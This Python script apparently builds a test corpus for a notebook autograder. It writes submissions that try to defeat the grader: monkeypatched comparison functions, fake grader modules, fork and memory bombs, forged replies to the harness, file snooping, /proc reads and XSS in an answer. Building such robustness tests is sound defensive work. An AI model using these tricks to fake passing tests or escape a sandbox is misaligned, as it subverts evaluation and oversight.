"""Rebuild the hostile corpus: one submitted notebook per case, and cases.json.

    .venv/bin/python tests/grading/hostile/build_corpus.py

The assignment is ``source/bn_forward/bn_forward.ipynb`` (written here too): 3 auto-graded
test cells worth 3 + 3 + 4 points (the last one hidden) and one written answer worth 1. Each
case starts from the released notebook (made by ``nbgrader generate_assignment``) and plants
one fault of ``grader-faults.md``; ``cases.json`` holds the expected auto score per test cell,
the expected status and a regular expression the student's message must match.
"""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import nbformat
from bnlib.grading.cli import nbgrader_env
from nbformat import v4

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
TESTS = ("test_batchnorm_forward", "test_spatial", "test_hidden")
POINTS = {"test_batchnorm_forward": 3, "test_spatial": 3, "test_hidden": 4}

CORRECT_BF = textwrap.dedent("""\
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        mean = x.mean(axis=0)
        var = x.var(axis=0)
        x_hat = (x - mean) / np.sqrt(var + eps)
        return gamma * x_hat + beta, (x_hat, gamma, var, eps)
    """)
CORRECT_SP = textwrap.dedent("""\
    def spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):
        n, c, h, w = x.shape
        rows = x.transpose(0, 2, 3, 1).reshape(-1, c)
        out, cache = batchnorm_forward(rows, gamma, beta, eps)
        return out.reshape(n, h, w, c).transpose(0, 3, 1, 2), cache
    """)
#: what student code that imports torch is told (bn_forward is a NumPy assignment)
FORBIDDEN_MESSAGE = "bn_forward is a NumPy assignment: importing torch is not allowed"
#: what the checks say about WRONG_BF (it returns x unchanged)
WRONG_MESSAGE = r"batchnorm_forward: out is wrong for x of shape \(8, 4\)"
WRONG_BF = "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n    return x.copy(), None\n"


def _solution(code: str) -> str:
    lines = code.splitlines()
    body = "\n".join(lines[1:])
    return f"{lines[0]}\n    ### BEGIN SOLUTION\n{body}\n    ### END SOLUTION\n"


def _meta(cell, grade_id, *, grade=False, solution=False, locked=False, points=None):
    cell.metadata["nbgrader"] = {"grade": grade, "solution": solution, "locked": locked,
                                 "grade_id": grade_id, "schema_version": 3}
    if points is not None:
        cell.metadata["nbgrader"]["points"] = points
    return cell


def numbered(nb):
    """``nb`` with cell ids by position, so that rebuilding the corpus changes nothing."""
    for index, cell in enumerate(nb.cells):
        cell.id = f"cell-{index}"
    return nb


def source_notebook():
    check = "from bnlib.grading import check\n"
    nb = v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                  "language": "python"}})
    nb.cells = [
        _meta(v4.new_markdown_cell("# Batch norm forward (grading corpus)\n\nWrite "
                                   "`batchnorm_forward` and `spatial_batchnorm_forward`."),
              "recap", locked=True),
        _meta(v4.new_code_cell("import numpy as np"), "imports", locked=True),
        _meta(v4.new_code_cell(_solution(CORRECT_BF)), "batchnorm_forward", solution=True),
        _meta(v4.new_code_cell(check + 'check("bn_forward", "batchnorm_forward", globals())'),
              "test_batchnorm_forward", grade=True, locked=True, points=3),
        _meta(v4.new_code_cell(_solution(CORRECT_SP)), "spatial_batchnorm_forward",
              solution=True),
        _meta(v4.new_code_cell(check + 'check("bn_forward", "spatial_batchnorm_forward", '
                                       'globals())'),
              "test_spatial", grade=True, locked=True, points=3),
        _meta(v4.new_code_cell(
            check + "### BEGIN HIDDEN TESTS\n"
            'check("bn_forward", "batchnorm_forward_edge_cases", globals(), seed=11)\n'
            'check("bn_forward", "spatial_batchnorm_forward", globals(), seed=12)\n'
            "### END HIDDEN TESTS"), "test_hidden", grade=True, locked=True, points=4),
        _meta(v4.new_markdown_cell("Why does batch norm use the biased variance?"),
              "question", locked=True),
        _meta(v4.new_markdown_cell("### BEGIN SOLUTION\nBecause ...\n### END SOLUTION"),
              "written", grade=True, solution=True, points=1),
    ]
    return numbered(nb)


def release_notebook(source_dir: Path):
    """Run the real ``nbgrader generate_assignment`` on the source in a scratch course."""
    with tempfile.TemporaryDirectory() as tmp:
        course = Path(tmp)
        shutil.copy(REPO / "nbgrader_config.py", course)
        shutil.copytree(source_dir, course / "solutions")
        subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", "bn_forward",
                        "--force"], cwd=course, check=True, capture_output=True,
                       env=nbgrader_env())
        return nbformat.read(course / "exercises" / "bn_forward" / "bn_forward.ipynb", 4)


def cell_index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells)
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def answer(nb, bf=CORRECT_BF, sp=CORRECT_SP):
    """The released notebook with both solution cells filled in."""
    nb = copy.deepcopy(nb)
    nb.cells[cell_index(nb, "batchnorm_forward")].source = bf
    nb.cells[cell_index(nb, "spatial_batchnorm_forward")].source = sp
    nb.cells[cell_index(nb, "written")].source = "Because the population variance is used."
    return numbered(nb)


def insert(nb, after, *sources):
    at = cell_index(nb, after) + 1
    for offset, source in enumerate(sources):
        nb.cells.insert(at + offset, v4.new_code_cell(textwrap.dedent(source)))
    return nb


def scores(lost=()):
    return {t: (0 if t in lost else POINTS[t]) for t in TESTS}


#: spatial_batchnorm_forward calls batchnorm_forward on a reshaped copy, so it still passes
MUTATE = {"test_batchnorm_forward": 0, "test_spatial": 3, "test_hidden": 0}


def cases(release):
    """(name, fault, what, notebook or raw bytes, extra files, expectation)."""
    full, zero = scores(), scores(TESTS)
    spatial_lost = scores(("test_spatial", "test_hidden"))
    good = answer(release)
    wrong = answer(release, bf=WRONG_BF)
    text = nbformat.writes(good)
    out = []

    def add(name, fault, what, nb, expect, files=None, status="graded"):
        out.append((name, fault, what, nb, files or {}, dict(expect, status=status)))

    add("correct", 0, "a correct solution", good, {"scores": full, "message": "passed"})
    add("released_unmodified", 0, "the released notebook, submitted unchanged", release,
        {"scores": zero, "message": "NotImplementedError"})
    add("invalid_json", 1, "not valid JSON", text.replace('"cells": [', '"cells": [[', 1).encode(),
        {"scores": zero, "message": "not a readable notebook: invalid JSON"}, status="rejected")
    add("truncated", 1, "file cut in half", text[: len(text) // 2].encode(),
        {"scores": zero, "message": "looks truncated"}, status="rejected")
    broken = json.loads(text)
    del broken["cells"][cell_index(good, "imports")]["outputs"]
    broken["cells"][0]["cell_type"] = "heading"
    add("schema_errors", 2, "cells missing required fields, an unknown cell type",
        json.dumps(broken).encode(), {"scores": full, "message": "schema errors repaired"})
    add("missing_notebook", 3, "no notebook in the submission", None,
        {"scores": zero, "message": "file bn_forward.ipynb not found"},
        files={"notes.txt": b"I forgot"}, status="missing")
    add("renamed_notebook", 3, "notebook renamed", None,
        {"scores": zero, "message": r"found instead: bn_forward \(1\)\.ipynb"},
        files={"bn_forward (1).ipynb": text.encode()}, status="missing")
    dup = copy.deepcopy(good)
    dup.cells.insert(2, copy.deepcopy(dup.cells[cell_index(dup, "test_batchnorm_forward")]))
    add("duplicate_grade_id", 4, "a copied test cell", dup,
        {"scores": full, "message": "appears 2 times"})
    deleted = copy.deepcopy(release)
    deleted.cells = [c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id")
                     not in TESTS]
    add("test_cells_deleted", 5, "every test cell deleted, no code written", deleted,
        {"scores": zero, "message": "was missing"})
    stripped = copy.deepcopy(wrong)
    for grade_id in TESTS:
        del stripped.cells[cell_index(stripped, grade_id)].metadata["nbgrader"]
    add("test_metadata_stripped", 5, "test cells' nbgrader metadata removed, wrong code",
        stripped, {"scores": zero, "message": "was missing"})
    edited = copy.deepcopy(wrong)
    edited.cells[cell_index(edited, "test_batchnorm_forward")].source = "print('all good')"
    edited.cells[cell_index(edited, "test_hidden")].metadata.nbgrader.points = 400
    add("test_cell_edited", 6, "test cell replaced by a print, points raised, wrong code",
        edited, {"scores": zero, "message": "was edited: restored"})
    retyped = copy.deepcopy(good)
    retyped.cells[cell_index(retyped, "test_spatial")].cell_type = "markdown"
    del retyped.cells[cell_index(retyped, "test_spatial")]["outputs"]
    del retyped.cells[cell_index(retyped, "test_spatial")]["execution_count"]
    add("test_cell_type_changed", 6, "test cell turned into markdown, correct code", retyped,
        {"scores": full, "message": "type changed to markdown, restored to code"})
    add("override_allclose", 7, "overrides np.allclose, np.testing and builtins, wrong code",
        insert(copy.deepcopy(wrong), "batchnorm_forward", """
            import builtins, numpy, numpy.testing
            numpy.allclose = lambda *a, **k: True
            numpy.array_equal = lambda *a, **k: True
            numpy.testing.assert_allclose = lambda *a, **k: None
            builtins.AssertionError = type("Never", (Exception,), {})
            builtins.isinstance = lambda *a: True
            """), {"scores": zero, "message": WRONG_MESSAGE})
    add("override_sys_modules", 7, "swaps bnlib.grading and torch in sys.modules, wrong code",
        insert(copy.deepcopy(wrong), "batchnorm_forward", """
            import sys, types
            fake = types.ModuleType("bnlib.grading")
            fake.check = lambda *a, **k: print("passed")
            sys.modules["bnlib"] = types.ModuleType("bnlib")
            sys.modules["bnlib.grading"] = fake
            sys.modules["torch"] = types.SimpleNamespace(allclose=lambda *a, **k: True)
            """), {"scores": zero, "message": WRONG_MESSAGE})
    add("override_ipython_hooks", 7, "installs an input transformer, disables showtraceback",
        insert(copy.deepcopy(wrong), "batchnorm_forward", """
            ip = get_ipython()
            ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
            ip.showtraceback = lambda *a, **k: None
            ip.events.register("pre_run_cell", lambda *a: None)
            """), {"scores": zero, "message": WRONG_MESSAGE})
    add("extra_files_shadow", 8, "ships numpy.py that raises and a fake bnlib package",
        good, {"scores": full, "message": "passed"},
        files={"numpy.py": b"raise ImportError('student numpy')\n",
               "bnlib/__init__.py": b"",
               "bnlib/grading.py": b"def check(*a, **k):\n    print('passed')\n"})
    add("extra_files_fake_grader", 8, "a fake bnlib/grading.py next to wrong code", wrong,
        {"scores": zero, "message": WRONG_MESSAGE},
        files={"bnlib/__init__.py": b"", "bnlib/grading.py": b"def check(*a, **k): pass\n"})
    list_bf = CORRECT_BF.replace("return gamma * x_hat + beta,", "return (gamma * x_hat + beta)"
                                 ".tolist(),")
    add("returns_list", 9, "returns a list", answer(release, bf=list_bf),
        {"scores": zero,
         "message": r"must return out as a numpy.ndarray of shape \(8, 4\) .*; got list"})
    matrix_bf = CORRECT_BF.replace("return gamma * x_hat + beta,",
                                   "return np.asmatrix(gamma * x_hat + beta),")
    add("returns_matrix", 9, "returns np.matrix", answer(release, bf=matrix_bf),
        {"scores": zero, "message": "got numpy.matrix"})
    eq_bf = ("class Anything:\n    def __eq__(self, other):\n        return True\n"
             "    __array_priority__ = 1000\n\n"
             "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n    return Anything(), None\n")
    add("returns_custom_eq", 9, "returns an object whose __eq__ is always True",
        answer(release, bf=eq_bf), {"scores": zero, "message": r"got (__main__\.)?Anything"})
    tensor_bf = ("import torch\n\n" + CORRECT_BF.replace(
        "return gamma * x_hat + beta,",
        "return torch.tensor(gamma * x_hat + beta, requires_grad=True),"))
    add("imports_torch", 0, "imports torch in a NumPy assignment (to return a tensor)",
        answer(release, bf=tensor_bf), {"scores": zero, "message": FORBIDDEN_MESSAGE})
    autograd_bf = CORRECT_BF.replace(
        "    mean = x.mean(axis=0)",
        "    import importlib\n    importlib.import_module('torch.autograd')\n"
        "    mean = x.mean(axis=0)")
    add("imports_torch_lazily", 0, "imports torch's autograd inside the graded function",
        answer(release, bf=autograd_bf),
        {"scores": zero, "message": "batchnorm_forward raised ImportError: " + FORBIDDEN_MESSAGE})
    mutate_bf = CORRECT_BF.replace("x_hat = (x - mean)", "x -= mean\n    x_hat = x")
    add("mutates_input", 10, "subtracts the mean from x in place",
        answer(release, bf=mutate_bf),
        {"scores": MUTATE, "message": "modified its input x in place"})
    loop_sp = "def spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):\n    while True:\n" \
              "        pass\n"
    add("infinite_loop", 11, "spatial_batchnorm_forward never returns",
        answer(release, sp=loop_sp), {"scores": spatial_lost, "message": "did not finish"})
    stubborn = ("def spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):\n    while True:\n"
                "        try:\n            sum(range(10**6))\n        except BaseException:\n"
                "            pass\n")
    add("loop_catching_timeout", 11, "a loop that swallows the timeout exception",
        answer(release, sp=stubborn), {"scores": spatial_lost, "message": "did not finish"})
    add("slow_top_level_cell", 11, "a cell that sleeps forever after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward",
               "import time\ntime.sleep(10**6)"),
        {"scores": full, "message": "did not finish"})
    bomb_sp = ("def spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "    hog = [bytearray(1 << 28) for _ in range(100)]\n    return hog, None\n")
    add("memory_bomb", 12, "allocates 25 GiB", answer(release, sp=bomb_sp),
        {"scores": spatial_lost, "message": "ran out of memory"})
    add("fork_bomb", 13, "forks until it cannot, after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward", """
            import os, time
            for _ in range(10_000):
                try:
                    if os.fork() == 0:
                        time.sleep(600)
                        os._exit(0)
                except OSError:
                    break
            print("fork failed as it should")
            """), {"scores": full, "message": "fork failed as it should"})
    add("thread_bomb", 13, "starts threads until it cannot, after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward", """
            import threading, time
            started = 0
            try:
                for _ in range(10_000):
                    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                    started += 1
            except RuntimeError:
                print("thread limit reached")
            """), {"scores": full, "message": "thread limit reached"})
    add("os_exit_cell", 14, "os._exit(3) in a cell after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward", "import os\nos._exit(3)"),
        {"scores": full, "message": r"ended the process \(exit code 3\)"})
    exit_sp = ("import sys\n\ndef spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "    sys.exit(2)\n")
    add("sys_exit_in_function", 14, "sys.exit(2) inside the graded function",
        answer(release, sp=exit_sp), {"scores": spatial_lost,
                                      "message": r"ended the process \(exit code 2\)"})
    add("segfault_cell", 14, "a segmentation fault in a cell after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward",
               "import ctypes\nctypes.string_at(0)"),
        {"scores": full, "message": "SIGSEGV"})
    add("huge_binary_output", 15, "prints 50 MB and raw bytes, then correct code",
        insert(copy.deepcopy(good), "imports", """
            import os, sys
            print("x" * 50_000_000)
            print("\\udcff\\x00\\x1b[31m binary")
            os.write(1, bytes(range(256)) * 10_000)
            """), {"scores": full, "message": "output truncated"})
    warn_bf = CORRECT_BF.replace("    mean = x.mean(axis=0)",
                                 "    warnings.warn('deprecated', DeprecationWarning)\n"
                                 "    warnings.warn('careful', UserWarning)\n"
                                 "    print('to stderr', file=sys.stderr)\n"
                                 "    mean = x.mean(axis=0)")
    add("warnings", 16, "correct code that emits warnings and writes to stderr",
        insert(answer(release, bf="import sys, warnings\n\n" + warn_bf), "imports",
               "import warnings\nwarnings.warn('top-level', UserWarning)"),
        {"scores": full, "message": "passed"})
    add("network", 17, "downloads the reference from the internet, then correct code",
        insert(copy.deepcopy(good), "imports", """
            import urllib.request
            urllib.request.urlopen("http://example.com/solutions.py", timeout=2).read()
            """), {"scores": full, "message": "network access is not allowed"})
    add("snoop_files", 17, "looks for the gradebook, solutions and other submissions, "
        "tries to write outside its folder; wrong code", insert(
            copy.deepcopy(wrong), "imports", """
            import os
            found = []
            for top in ("/tmp", "/work", "/root", "/home", "/srv", "/var/tmp"):
                for folder, dirs, files in os.walk(top):
                    found += [os.path.join(folder, f) for f in files
                              if f in ("gradebook.db", "bn_forward.ipynb")
                              and "site-packages" not in folder]
            print("found:", found)
            for target in ["/tmp/pwned", "/var/tmp/pwned", "/etc/pwned"] + found:
                try:
                    open(target, "a").write("pwned")
                    print("wrote", target)
                except OSError as exc:
                    print("blocked", type(exc).__name__)
            """), {"scores": zero, "message": r"found: \[\]"})
    add("import_reference", 18, "imports bnlib's reference instead of writing code",
        answer(release, bf="from bnlib.numpy import batchnorm_forward\n",
               sp="from bnlib.numpy import batchnorm_forward as spatial_batchnorm_forward\n"),
        {"scores": zero, "message": r"define batchnorm_forward\(x, gamma, beta"})
    add("nondeterminism", 20, "correct code that reseeds the global RNG and uses threads",
        insert(copy.deepcopy(good), "imports", """
            import numpy as np, threading
            np.random.seed(None)
            threading.Thread(target=lambda: np.random.rand(1000)).start()
            """), {"scores": full, "message": "passed"})
    add("fake_grade_cell", 0, "adds its own graded cell worth 100 points, correct code",
        _fake_grade_cell(good), {"scores": full, "message": "unknown grade_id"})
    add("magics", 0, "IPython magics and shell escapes around correct code",
        insert(answer(release, bf="%%time\n" + CORRECT_BF), "imports",
               "%matplotlib inline\n!pip install cheat\nfiles = !ls\n%load_ext autoreload"),
        {"scores": full, "message": "passed"})
    add("syntax_error", 0, "a syntax error in the spatial cell, correct forward",
        answer(release, sp="def spatial_batchnorm_forward(x:\n    pass\n"),
        {"scores": spatial_lost, "message": r"define spatial_batchnorm_forward\(.*SyntaxError"})
    add("forged_progress", 11, "a cell that writes fake progress events, answers for the "
        "grader and loops forever ignoring the timers, after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward", FORGED_PROGRESS),
        {"scores": full, "message": "sent the grader a reply in the harness's place"})
    add("forged_long_error", 15, "forges results whose error message is 4 million characters "
        "long (the kind that stalled a backtracking regular expression)",
        answer(release, sp=FORGED_LONG_ERROR),
        {"scores": spatial_lost, "message": "spatial_batchnorm_forward ran out of memory"})
    add("tree_memory", 12, "four forked children hold 500 MiB each, after correct code",
        insert(copy.deepcopy(good), "spatial_batchnorm_forward", TREE_MEMORY),
        {"scores": full, "message": r"children killed: [2-4]|used more than 1024 MiB"})
    add("sees_other_students", 24, "looks for other students' grading in /proc, wrong code",
        insert(copy.deepcopy(wrong), "imports", OTHER_STUDENTS),
        {"scores": zero, "message": "other students seen: False", "isolation": True})
    scripted = answer(release)
    scripted.cells[cell_index(scripted, "written")].source = SCRIPT_ANSWER
    add("script_in_answer", 19, "a written answer with <script>, onerror= and a javascript: "
        "link, correct code", scripted, {"scores": full, "message": "passed"})
    many = copy.deepcopy(good)
    at = cell_index(many, "spatial_batchnorm_forward") + 1
    many.cells[at:at] = [v4.new_code_cell(f"trivial = {i}") for i in range(10_000)]
    add("ten_thousand_cells", 0, "10,000 trivial cells after correct code", many,
        {"scores": full, "message": "passed"})
    return out


FORGED_PROGRESS = """
    # forge-progress
    import json, os, signal, struct, sys
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.signal(signal.SIGPROF, signal.SIG_IGN)
    grader = os.path.join(sys.argv[1], "grader")
    try:  # the progress file an earlier grader trusted
        with open(os.path.join(grader, "out", "progress.jsonl"), "a") as log:
            log.write('{"kind": "cell", "id": "x", "phase": "end"}\\n')
    except OSError:
        pass
    cells = json.load(open(os.path.join(grader, "job.json")))["cells"]
    me = next(i for i, c in enumerate(cells) if "# forge-progress" in c["source"])
    reply = json.dumps({"kind": "cell", "index": me, "stdout": "", "stderr": "",
                        "error": None}).encode()
    os.write(int(sys.argv[3]), struct.pack(">II", len(reply), 0) + reply)
    while True:
        pass
    """

FORGED_LONG_ERROR = """\
import io, json, os, struct, sys

def spatial_batchnorm_forward(x, gamma, beta, eps=1e-5):
    job = json.load(open(os.path.join(sys.argv[1], "grader", "job.json")))
    index = next(i for i, c in enumerate(job["checks"])
                 if "spatial_batchnorm_forward" in c["functions"])
    def send(header, payload=b""):
        data = json.dumps(header).encode()
        os.write(int(sys.argv[3]), struct.pack(">II", len(data), len(payload)) + data + payload)
    for case in range(len(job["checks"][index]["cases"])):
        result = io.BytesIO()
        np.savez(result, error=np.array(
            "spatial_batchnorm_forward raised MemoryError: " + "a" * 4_000_000))
        send({"kind": "result", "check": index, "case": case}, result.getvalue())
    send({"kind": "check", "index": index, "missing": []})
    os._exit(0)
"""

TREE_MEMORY = """
    import os, time
    children = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            block = bytearray(500 << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(600)
            os._exit(0)
        children.append(pid)
    time.sleep(6)
    print("children killed:", sum(os.waitpid(p, os.WNOHANG) == (p, 9) for p in children))
    """

OTHER_STUDENTS = """
    import os
    seen = []
    for pid in os.listdir("/proc"):
        try:
            seen.append(open(f"/proc/{pid}/cmdline", "rb").read())
        except OSError:
            pass
    print("other students seen:", any(b"--student" in line for line in seen))
    """

SCRIPT_ANSWER = ('Because <script>alert("xss")</script> <img src=x onerror=alert("img")> '
                 '[click](javascript:alert("link")) the population variance is used.')


def _fake_grade_cell(nb):
    nb = copy.deepcopy(nb)
    cell = v4.new_code_cell("print('I grade myself')")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                 "points": 100, "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(cell)
    return nb


def main() -> None:
    source_dir = HERE / "source" / "bn_forward"
    source_dir.mkdir(parents=True, exist_ok=True)
    nbformat.write(source_notebook(), source_dir / "bn_forward.ipynb")
    release = release_notebook(HERE / "source")
    submissions = HERE / "submissions"
    shutil.rmtree(submissions, ignore_errors=True)
    manifest = {}
    for name, fault, what, nb, files, expect in cases(release):
        folder = submissions / name
        folder.mkdir(parents=True)
        if isinstance(nb, bytes):
            (folder / "bn_forward.ipynb").write_bytes(nb)
        elif nb is not None:
            nbformat.write(numbered(nb), folder / "bn_forward.ipynb")
        for relative, data in files.items():
            (folder / relative).parent.mkdir(parents=True, exist_ok=True)
            (folder / relative).write_bytes(data)
        manifest[name] = {"fault": fault, "what": what, **expect}
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"{len(manifest)} cases written to {submissions}")


if __name__ == "__main__":
    main()
